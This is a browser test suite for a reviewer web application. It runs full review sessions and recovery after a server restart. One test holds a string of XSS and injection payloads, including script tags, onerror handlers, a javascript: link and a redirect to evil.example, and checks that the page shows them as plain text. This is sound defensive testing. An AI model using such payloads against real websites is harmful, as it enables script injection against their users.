"""Chromium works through whole reviews, against the real program."""

from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np
import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from hitl.cli.clock import moment
from hitl.review.folder import ballot_file, load_review
from hitl.review.merging import merge_review
from hitl.review.votes import Ballot
from hitl.review.words import Action, Choice, Outcome
from hitl.review.writing import write_review
from tests.render.conftest import browser as browser  # a fixture
from tests.review.releases import PEOPLE, a_candidate, packed
from tests.web.caller import Caller
from tests.web.rooms import Room
from tests.web.served import Program, in_thread

pytestmark = pytest.mark.browser


@dataclass
class Window:
    """One reviewer's browser, with everything that it said or fetched."""

    context: BrowserContext
    page: Page
    said: list[str] = field(default_factory=list)
    asked: set[str] = field(default_factory=set)


@contextmanager
def a_window(browser: Browser, *, with_script: bool = True) -> Iterator[Window]:
    context = browser.new_context(java_script_enabled=with_script)
    context.set_default_timeout(10_000)
    window = Window(context, context.new_page())
    window.page.on("console", lambda message: window.said.append(message.text))
    window.page.on("pageerror", lambda error: window.said.append(str(error)))
    window.page.on("request", lambda request: window.asked.add(request.url.split("/")[2]))
    yield window
    context.close()


def enter(page: Page, url: str, token: str) -> None:
    """Follow an invitation's link."""
    page.goto(f"{url}#{token}")
    expect(page.locator("#token")).to_have_value(token)
    assert "#" not in page.url
    page.keyboard.press("Enter")
    page.wait_for_selector(".at-list")


def texts(page: Page) -> list[str]:
    return page.locator(".output").all_inner_texts()


def vote_by_keys(page: Page) -> None:
    first, _ = texts(page)
    keys = ("1", "7", "a") if first.startswith("one") else ("3", "5", "b")
    for key in keys:
        page.keyboard.press(key)
    page.keyboard.press("r")
    page.keyboard.type("by keys: 1 2 3 s l u")
    page.keyboard.press("Escape")
    page.keyboard.press("Enter")


def vote_by_pointer(page: Page) -> None:
    page.bring_to_front()  # behind another window a browser draws once a second
    first, _ = texts(page)
    good, bad = ("A", "B") if first.startswith("one") else ("B", "A")
    page.locator(f"input[name=action_{good}][value=approve]").check()
    page.locator(f"input[name=action_{bad}][value=reject]").check()
    page.locator(f"select[name=category_{bad}]").select_option("wrong")
    page.locator(f"input[name=preference][value={good}]").check()
    page.get_by_role("button", name="Save and next").click()


def lock(page: Page, token: str) -> None:
    page.bring_to_front()
    page.get_by_role("link", name="Lock and sign").click()
    page.locator("#token").fill(token)
    page.get_by_role("button", name="Lock and sign").click()
    expect(page.locator(".notice")).to_contain_text("Locked and signed")


def ballot_of(room: Room, name: str) -> Ballot:
    return Ballot.model_validate_json(ballot_file(room.folder, room.who(name)).read_bytes())


def test_a_whole_review_by_keyboard(browser: Browser, room: Room) -> None:
    with in_thread(room, moment) as port, a_window(browser) as window:
        page = window.page
        enter(page, f"http://127.0.0.1:{port}/", room.token("alice"))
        page.get_by_role("link", name="Begin").focus()
        page.keyboard.press("Enter")
        page.wait_for_selector(".at-item")
        put_off = page.url
        page.keyboard.press("l")
        page.wait_for_url(lambda url: url != put_off)
        for n in range(3):
            here = page.url
            expect(page.locator(".progress")).to_contain_text(f"{n} of 4")
            vote_by_keys(page)
            page.wait_for_url(lambda url, here=here: url != here)
        assert page.url == put_off
        page.keyboard.press("u")
        page.wait_for_url(lambda url: url != put_off)
        expect(page.locator("#problems")).to_contain_text("taken back")
        expect(page.locator("textarea[name=reason]")).to_have_value("by keys: 1 2 3 s l u")
        for _ in range(2):
            here = page.url
            page.keyboard.press("c")
            expect(page.locator(".confidence").first).to_contain_text("Stated confidence")
            vote_by_keys(page)
            page.wait_for_url(lambda url, here=here: url != here)
        page.get_by_role("link", name="Lock and sign").focus()
        page.keyboard.press("Enter")
        page.wait_for_selector(".at-lock")
        page.locator("#token").focus()
        page.keyboard.type(room.token("alice"))
        page.keyboard.press("Enter")
        expect(page.locator(".notice")).to_contain_text("Locked and signed")

    ballot = ballot_of(room, "alice")
    assert len(ballot.votes) == 4
    for vote in ballot.votes:
        sides = {s.side: s.text for i in room.items("alice") if i.item_id == vote.item_id for s in i.sides}  # fmt: skip
        good = next(side for side, text in sides.items() if text.startswith("one"))
        assert {mark.side: mark.action for mark in vote.marks}[good] is Action.APPROVE
        assert vote.preference == Choice(good.value)
        assert "by keys" in vote.reason
        assert vote.seconds is not None
        assert vote.seconds > 0
    assert sum(vote.saw_confidence for vote in ballot.votes) == 2
    assert window.said == []
    assert window.asked == {f"127.0.0.1:{port}"}


def test_two_reviewers_a_pause_and_a_killed_server(browser: Browser, room: Room) -> None:
    with a_window(browser) as one, a_window(browser) as two:
        with Program(room.folder) as program:
            for window, name in ((one, "alice"), (two, "bob")):
                enter(window.page, program.url, room.token(name))
                window.page.get_by_role("link", name="Begin").click()
            vote_by_pointer(one.page)
            vote_by_pointer(two.page)
            expect(one.page.locator(".progress")).to_contain_text("1 of 4")
            expect(two.page.locator(".progress")).to_contain_text("1 of 4")
            one.page.get_by_role("button", name="Leave").click()
            expect(one.page.locator("#entry")).to_be_visible()
            vote_by_pointer(two.page)
            expect(two.page.locator(".progress")).to_contain_text("2 of 4")
            program.process.kill()
            program.process.communicate(timeout=20)
        with Program(room.folder, port=program.port):
            enter(one.page, program.url, room.token("alice"))
            expect(one.page.locator(".progress")).to_contain_text("1 of 4")
            one.page.get_by_role("link", name="Go on").click()
            # Bob's session outlived the server, and so did what he had on his screen.
            for n in (3, 4):
                vote_by_pointer(two.page)
                expect(two.page.locator(".progress")).to_contain_text(f"{n} of 4")
            for n in (2, 3, 4):
                vote_by_pointer(one.page)
                expect(one.page.locator(".progress")).to_contain_text(f"{n} of 4")
            lock(one.page, room.token("alice"))
            lock(two.page, room.token("bob"))
            for name in ("carol", "dora"):
                rest = Caller(program.port)
                rest.enter(room.token(name))
                sent = {"token": room.token(name), "accept_blanks": True}
                assert rest.send("POST", "/api/lock", sent).status == 200

    ratings = merge_review(
        load_review(room.folder), lambda name: np.random.default_rng(len(name)), is_partial=True
    )
    # Both prefer `one of ...`, which the previous arm said, on every item.
    assert [item.outcome for item in ratings.items] == [Outcome.LOSS] * 4
    assert [item.missing_votes for item in ratings.items] == [1] * 4
    assert one.said == []
    assert two.said == []


def test_a_whole_review_without_javascript(browser: Browser, room: Room) -> None:
    with in_thread(room) as port, a_window(browser, with_script=False) as window:
        page = window.page
        page.goto(f"http://127.0.0.1:{port}/")
        page.locator("#token").fill(room.token("alice"))
        page.get_by_role("button", name="Enter").click()
        page.get_by_role("link", name="Begin").click()
        for n in range(4):
            expect(page.locator(".progress")).to_contain_text(f"{n} of 4")
            vote_by_pointer(page)
        lock(page, room.token("alice"))

    assert len(ballot_of(room, "alice").votes) == 4
    assert window.said == []


HOSTILE = (
    "<script>window.pwned=1</script><img src=x onerror=window.pwned=2><svg onload=window.pwned=3>"
    '" onmouseover="window.pwned=4" \u202egnp.exe\u2066 \x1b[31mred\x00 '
    "</textarea></form><form action=//evil.example> [x](javascript:window.pwned=5) {{7*7}} "
    "<style>body{display:none}</style><meta http-equiv=refresh content=0;url=//evil.example>"
)


def test_hostile_outputs_are_text(browser: Browser, tmp_path: Path) -> None:
    line = "x" * 1_000_000
    # What a model can write, JSON can carry: each text comes from a packet on disk.
    release = [a_candidate("case-1", HOSTILE, f"other {line}", input=HOSTILE, context=HOSTILE)]
    review = packed(release, people=PEOPLE[:1], raters=1)
    write_review(tmp_path / "review", review, with_invitations=False)
    room = Room(tmp_path / "review", review)
    with in_thread(room) as port, a_window(browser) as window:
        page = window.page
        page.set_viewport_size({"width": 390, "height": 800})
        enter(page, f"http://127.0.0.1:{port}/", room.token("alice"))
        page.get_by_role("link", name="Begin").click()
        page.wait_for_selector(".at-item")
        page.locator("textarea[name=reason]").fill(HOSTILE.replace("\x00", ""))
        page.locator("button[value=confidence]").click()
        page.wait_for_load_state("networkidle")
        shown = page.inner_text("main")

        assert page.evaluate("window.pwned") is None
        assert "<script>window.pwned=1</script>" in shown
        assert "⟨U+202E⟩gnp.exe" in shown
        assert "\u202e" not in shown
        assert "\x1b" not in shown
        assert "{{7*7}}" in shown
        assert (
            page.locator("main script, main img, main svg, iframe, meta[http-equiv]").count() == 0
        )
        assert page.evaluate("document.documentElement.scrollWidth") <= 390
        assert len(page.content()) > 1_000_000

    assert window.said == []
    assert window.asked == {f"127.0.0.1:{port}"}


def test_two_windows_of_one_reviewer_lose_nothing(browser: Browser, room: Room) -> None:
    with in_thread(room) as port, a_window(browser) as window:
        enter(window.page, f"http://127.0.0.1:{port}/", room.token("alice"))
        window.page.get_by_role("link", name="Begin").click()
        window.page.wait_for_selector(".at-item")
        other = window.context.new_page()
        other.goto(window.page.url)
        here = other.url
        vote_by_keys(other)
        other.wait_for_url(lambda url: url != here)
        vote_by_pointer(window.page)
        expect(window.page.locator("#problems")).to_contain_text("another window")
        window.page.get_by_role("button", name="Save and next").click()
        window.page.wait_for_url(lambda url: url != here)
        progress = window.page.request.get(f"http://127.0.0.1:{port}/api/progress").json()

    assert progress["n_done"] == 1
